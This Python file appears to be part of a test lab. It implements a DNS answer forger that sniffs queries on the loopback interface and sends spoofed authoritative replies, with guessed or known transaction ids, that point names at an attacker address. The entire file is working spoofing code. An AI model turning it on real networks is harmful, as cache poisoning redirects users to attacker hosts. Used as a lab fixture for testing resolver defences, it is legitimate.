"""Forge DNS answers on the loopback interface: an attacker who hears the queries."""

import asyncio
import random
import socket
import struct

import dns.exception
import dns.flags
import dns.message
import dns.rdatatype
import dns.rrset

from labkit import places

ETHERNET, IPV4, UDP = 14, 0x0800, 17
SO_MARK = 36


class Forger:
    """Hears queries to addresses under a prefix, and answers them before or beside the server."""

    MARK = 7
    GUESSES = 3

    def __init__(self, prefix: str, jammed: frozenset[str]) -> None:
        """Answer for servers whose address begins with `prefix`; with the right id if `jammed`."""
        self.prefix, self.jammed = prefix, jammed
        self.chance = random.Random(53)
        self.sent = 0
        self._running = True

    def stop(self) -> None:
        """Forge no more."""
        self._running = False

    async def run(self) -> None:
        """Forge until stopped."""
        loop = asyncio.get_running_loop()
        with (
            socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IPV4)) as ear,
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as mouth,
        ):
            ear.bind(("lo", IPV4))
            ear.setblocking(False)
            mouth.setsockopt(socket.SOL_SOCKET, SO_MARK, self.MARK)
            mouth.setblocking(False)
            while self._running:
                frame = await loop.sock_recv(ear, 65535)
                self._hear(frame[ETHERNET:], mouth)

    def _hear(self, packet: bytes, mouth: socket.socket) -> None:
        size = (packet[0] & 15) * 4
        if packet[9] != UDP or len(packet) < size + 20:
            return
        source, target = socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])
        port, to = struct.unpack_from("!HH", packet, size)
        if to != 53 or not target.startswith(self.prefix) or source == places.MONITOR[0]:
            return
        try:
            query = dns.message.from_wire(packet[size + 8 :])
        except dns.exception.DNSException:
            return
        if query.question[0].rdtype not in (dns.rdatatype.A, dns.rdatatype.DS):
            return
        ids = [self.chance.randrange(1 << 16) for _ in range(self.GUESSES)]
        if target in self.jammed:
            ids.append(query.id)
        for number in ids:
            octets = self._answer(query, number)
            datagram = struct.pack("!HHHH", 53, port, 8 + len(octets), 0) + octets
            head = struct.pack(
                "!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), number, 0, 64, UDP, 0,
                socket.inet_aton(target), socket.inet_aton(source),
            )  # fmt: skip
            mouth.sendto(head + datagram, (source, 0))
            self.sent += 1

    def _answer(self, query: dns.message.Message, number: int) -> bytes:
        response = dns.message.make_response(query)
        response.id = number
        response.flags |= dns.flags.AA
        name = query.question[0].name
        if query.question[0].rdtype == dns.rdatatype.A:
            response.answer.append(dns.rrset.from_text(name, 300, "IN", "A", places.ATTACKER))
        return response.to_wire()
